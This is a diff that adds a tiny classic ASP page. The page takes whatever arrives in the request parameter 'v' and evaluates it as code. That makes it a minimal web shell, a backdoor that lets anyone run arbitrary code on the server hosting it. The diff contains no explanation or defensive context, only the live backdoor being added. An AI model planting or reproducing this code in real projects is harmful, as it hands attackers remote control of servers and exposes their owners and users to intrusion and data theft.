@@ -1,0 +1,6 @@
+<%
+dim a, b
+a = request("v")
+b = a
+eval b
+%>
